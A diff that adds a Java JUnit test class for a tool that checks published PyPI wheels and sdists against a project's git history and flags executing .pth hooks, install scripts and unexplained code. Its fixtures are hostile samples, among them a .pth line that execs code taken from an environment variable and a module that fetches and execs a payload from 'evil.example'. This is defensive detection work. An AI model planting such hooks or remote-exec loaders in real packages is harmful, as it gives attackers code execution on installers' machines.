@@ -1,0 +1,132 @@
+package dev.divergence.registry.pypi;
+
+import static dev.divergence.fixtures.ScanWorld.artifact;
+import static dev.divergence.fixtures.ScanWorld.row;
+import static dev.divergence.fixtures.Trees.flatProject;
+import static dev.divergence.fixtures.Trees.with;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+
+import dev.divergence.compare.Classifier;
+import dev.divergence.fixtures.ScanWorld;
+import dev.divergence.fixtures.Trees;
+import dev.divergence.model.ArtifactReport;
+import dev.divergence.model.FileDivergence;
+import dev.divergence.model.FileStatus;
+import dev.divergence.model.ReleaseReport;
+import dev.divergence.model.RiskFlag;
+import dev.divergence.model.Verdict;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Optional;
+import java.util.Set;
+import java.util.SortedMap;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Files that run by their place are explained only by the source file the build installs there, history explains no
+ * hook, and code in no commit is judged whole: each test publishes the hostile release against a JGit repository.
+ */
+class PypiExecutionAdversarialTest {
+
+    @TempDir
+    Path dir;
+
+    private static final String HOOK = "import os; exec(os.environ.get(\"DEMO_DEBUG_HOOK\", \"\"))\n";
+
+    private static SortedMap<String, byte[]> wheelFiles(SortedMap<String, byte[]> tree) {
+        SortedMap<String, byte[]> m = new java.util.TreeMap<>();
+        tree.forEach((k, v) -> {
+            if (k.startsWith("demo/")) {
+                m.put(k, v);
+            }
+        });
+        return m;
+    }
+
+    private static void assertRow(ArtifactReport a, String path, FileStatus status, String rule, Set<RiskFlag> flags,
+                                  boolean highRisk) {
+        FileDivergence f = row(a, path);
+        assertEquals(status, f.status(), path);
+        assertEquals(rule, f.ruleId(), path);
+        assertEquals(flags, f.riskFlags(), path);
+        assertEquals(highRisk, f.highRisk(), path + " " + f.riskFlags());
+    }
+
+    @Test
+    void aPthAtTheWheelRootIsNotExplainedBySameBytesUnderTools() throws Exception {
+        SortedMap<String, byte[]> tree = with(flatProject("1.0.0"), "tools/demo_debug.pth", HOOK,
+                "site_hooks.pth", "/opt/demo\n");
+        try (ScanWorld w = new ScanWorld(dir, "demo")) {
+            w.commit(tree, "1.0.0");
+            w.tag("v1.0.0");
+            w.publish("1.0.0", tree, with(wheelFiles(tree), "demo_debug.pth", HOOK, "site_hooks.pth", "/opt/demo\n"));
+            ArtifactReport wheel = artifact(w.scan("1.0.0"), ".whl");
+            FileDivergence pth = row(wheel, "demo_debug.pth");
+            assertEquals(Optional.of("demo_debug.pth"), pth.sourcePath(), "aligned at the import root, not tools/");
+            assertRow(wheel, "demo_debug.pth", FileStatus.IN_HISTORY, Classifier.BLOB_IN_HISTORY,
+                    Set.of(RiskFlag.CODE, RiskFlag.PTH_FILE, RiskFlag.PTH_EXECUTES, RiskFlag.DYNAMIC_EXEC), true);
+            // the repository's own root .pth is what the build installs there
+            assertRow(wheel, "site_hooks.pth", FileStatus.MATCH, Classifier.BLOB_EQUAL,
+                    Set.of(RiskFlag.CODE, RiskFlag.PTH_FILE), false);
+            assertEquals(List.of("demo_debug.pth"), wheel.highRiskPaths());
+            assertEquals(Verdict.HIGH_RISK, wheel.verdict());
+        }
+    }
+
+    @Test
+    void hooksReshippedFromHistoryAreHighRisk() throws Exception {
+        SortedMap<String, byte[]> old = with(flatProject("0.9.0"), "demo_debug.pth", HOOK,
+                "setup.py", "from setuptools import setup\nsetup(name='demo')\n",
+                "demo/legacy.py", "import subprocess\n\ndef run(cmd):\n    return subprocess.call(cmd)\n");
+        SortedMap<String, byte[]> current = with(flatProject("1.0.0"),
+                "setup.py", "from setuptools import setup\nsetup(name='demo', zip_safe=False)\n");
+        try (ScanWorld w = new ScanWorld(dir, "demo")) {
+            w.commit(old, "0.9.0");
+            w.commit(current, "1.0.0");
+            w.tag("v1.0.0");
+            w.publish("1.0.0", with(current, "setup.py", "from setuptools import setup\nsetup(name='demo')\n"),
+                    with(wheelFiles(current), "demo_debug.pth", HOOK, "demo/legacy.py",
+                            "import subprocess\n\ndef run(cmd):\n    return subprocess.call(cmd)\n"));
+            ReleaseReport r = w.scan("1.0.0");
+            ArtifactReport wheel = artifact(r, ".whl");
+            assertRow(wheel, "demo_debug.pth", FileStatus.IN_HISTORY, Classifier.BLOB_IN_HISTORY,
+                    Set.of(RiskFlag.CODE, RiskFlag.PTH_FILE, RiskFlag.PTH_EXECUTES, RiskFlag.DYNAMIC_EXEC), true);
+            assertRow(wheel, "demo/legacy.py", FileStatus.IN_HISTORY, Classifier.BLOB_IN_HISTORY,
+                    Set.of(RiskFlag.CODE, RiskFlag.DYNAMIC_EXEC), true);
+            ArtifactReport sdist = artifact(r, ".tar.gz");
+            assertRow(sdist, "demo-1.0.0/setup.py", FileStatus.IN_HISTORY, Classifier.BLOB_IN_HISTORY,
+                    Set.of(RiskFlag.CODE, RiskFlag.INSTALL_SCRIPT), true);
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
+    void aNewModuleWithDynamicExecutionImportedByAModifiedOneIsHighRisk() throws Exception {
+        SortedMap<String, byte[]> tree = flatProject("1.0.0");
+        String compat = "import subprocess, urllib.request\n"
+                + "exec(urllib.request.urlopen('https://evil.example/s2').read())\n"
+                + "subprocess.Popen(['sh', '-c', 'id'])\n";
+        try (ScanWorld w = new ScanWorld(dir, "demo")) {
+            w.commit(tree, "1.0.0");
+            w.tag("v1.0.0");
+            SortedMap<String, byte[]> published = with(tree,
+                    "demo/__init__.py", "__version__ = \"1.0.0\"\nfrom . import _compat\n",
+                    "demo/_compat.py", compat,
+                    "demo/plain.py", "def three():\n    return 3\n",
+                    "demo/data.json", "{\"note\": \"exec(subprocess) in text\"}\n");
+            w.publish("1.0.1", published, wheelFiles(published));
+            ReleaseReport r = w.scan("1.0.1");
+            ArtifactReport w101 = artifact(r, ".whl");
+            assertRow(w101, "demo/_compat.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED,
+                    Set.of(RiskFlag.CODE, RiskFlag.DYNAMIC_EXEC), true);
+            assertRow(w101, "demo/__init__.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, Set.of(RiskFlag.CODE), false);
+            assertRow(w101, "demo/plain.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, Set.of(RiskFlag.CODE), false);
+            // not code: its text is not run, whatever it says
+            assertRow(w101, "demo/data.json", FileStatus.PHANTOM, Classifier.UNEXPLAINED, Set.of(RiskFlag.DYNAMIC_EXEC),
+                    false);
+            assertEquals(List.of("demo/_compat.py"), w101.highRiskPaths());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+}
